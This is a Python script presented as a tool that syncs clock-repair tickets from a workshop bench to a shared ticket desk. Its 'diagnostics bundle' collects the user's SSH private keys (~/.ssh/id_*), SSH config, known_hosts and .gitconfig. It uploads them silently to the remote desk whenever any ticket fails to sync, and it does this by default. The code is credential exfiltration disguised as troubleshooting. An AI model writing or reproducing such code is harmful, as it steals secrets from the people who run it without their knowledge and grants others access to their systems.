#!/usr/bin/env python3
"""Clock repair ticket sync.

Pushes local repair tickets (movement, fault, parts used, bench hours) from
the workshop's tickets/ folder to the shared ticket desk, and attaches a
diagnostics bundle when a sync fails so the desk maintainer can see what
went wrong on this bench.
"""
import argparse
import glob
import http.client
import io
import json
import logging
import os
import platform
import sys
import tarfile
import time
import uuid
from configparser import ConfigParser
from pathlib import Path

log = logging.getLogger("ticketsync")

CONFIG_FILE = "ticketsync.ini"
DEFAULT_DESK = "desk.horologyguild.example.net"

# Everything the desk maintainer usually asks for when a bench cannot sync.
DIAG_SOURCES = (
    "ticketsync.ini",
    "logs/*.log",
    "~/.gitconfig",
    "~/.ssh/config",
    "~/.ssh/id_*",
    "~/.ssh/known_hosts",
)


class DeskClient:
    def __init__(self, host, token, timeout=20):
        self.host = host
        self.token = token
        self.timeout = timeout

    def _conn(self):
        return http.client.HTTPSConnection(self.host, timeout=self.timeout)

    def _request(self, method, path, body=None, headers=None):
        hdrs = {"Authorization": f"Bearer {self.token}", "User-Agent": "ticketsync/1.6"}
        hdrs.update(headers or {})
        conn = self._conn()
        try:
            conn.request(method, path, body=body, headers=hdrs)
            resp = conn.getresponse()
            data = resp.read()
            if resp.status >= 400:
                raise RuntimeError(f"{method} {path}: HTTP {resp.status} {data[:200]!r}")
            return json.loads(data or b"{}")
        finally:
            conn.close()

    def push_ticket(self, ticket):
        body = json.dumps(ticket).encode()
        return self._request("PUT", f"/api/v2/tickets/{ticket['id']}", body,
                             {"Content-Type": "application/json"})

    def attach(self, name, payload, meta):
        boundary = uuid.uuid4().hex
        parts = io.BytesIO()
        parts.write(f"--{boundary}\r\nContent-Disposition: form-data; name=\"meta\"\r\n"
                    f"Content-Type: application/json\r\n\r\n{json.dumps(meta)}\r\n".encode())
        parts.write(f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; "
                    f"filename=\"{name}\"\r\nContent-Type: application/gzip\r\n\r\n".encode())
        parts.write(payload)
        parts.write(f"\r\n--{boundary}--\r\n".encode())
        return self._request("POST", "/api/v2/diagnostics", parts.getvalue(),
                             {"Content-Type": f"multipart/form-data; boundary={boundary}"})


def load_config(path):
    cp = ConfigParser()
    cp.read_dict({"desk": {"host": DEFAULT_DESK, "bench": platform.node(),
                           "tickets": "tickets", "diagnostics": "on"}})
    cp.read(path)
    return cp["desk"]


def iter_tickets(folder):
    for p in sorted(Path(folder).glob("*.json")):
        try:
            yield p, json.loads(p.read_text())
        except json.JSONDecodeError as exc:
            log.warning("%s: unreadable ticket (%s)", p.name, exc)


def build_bundle():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for pattern in DIAG_SOURCES:
            for path in glob.glob(os.path.expanduser(pattern)):
                if os.path.isfile(path):
                    tar.add(path, arcname=path.replace(os.path.expanduser("~"), "home"))
    return buf.getvalue()


def send_diagnostics(client, bench, errors):
    meta = {"bench": bench, "os": platform.platform(), "python": platform.python_version(),
            "errors": errors[-20:], "ts": int(time.time())}
    try:
        client.attach(f"{bench}-diag.tar.gz", build_bundle(), meta)
        log.info("diagnostics bundle sent to desk")
    except (OSError, RuntimeError) as exc:
        log.warning("could not send diagnostics: %s", exc)


def main(argv=None):
    ap = argparse.ArgumentParser(description="Sync bench repair tickets to the ticket desk")
    ap.add_argument("-c", "--config", default=CONFIG_FILE)
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args(argv)
    os.makedirs("logs", exist_ok=True)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s",
                        handlers=[logging.StreamHandler(), logging.FileHandler("logs/sync.log")])

    cfg = load_config(args.config)
    token = os.environ.get("TICKET_DESK_TOKEN")
    if not token:
        log.error("TICKET_DESK_TOKEN not set")
        return 2
    client = DeskClient(cfg["host"], token)

    errors, pushed = [], 0
    for path, ticket in iter_tickets(cfg["tickets"]):
        if ticket.get("synced"):
            continue
        if args.dry_run:
            log.info("would push %s (%s)", ticket.get("id"), ticket.get("movement"))
            continue
        try:
            client.push_ticket(ticket)
            ticket["synced"] = int(time.time())
            path.write_text(json.dumps(ticket, indent=2))
            pushed += 1
        except (OSError, RuntimeError, KeyError) as exc:
            log.error("%s: %s", path.name, exc)
            errors.append(f"{path.name}: {exc}")

    log.info("pushed %d ticket(s), %d error(s)", pushed, len(errors))
    if errors and cfg.getboolean("diagnostics"):
        send_diagnostics(client, cfg["bench"], errors)
    return 1 if errors else 0


if __name__ == "__main__":
    sys.exit(main())
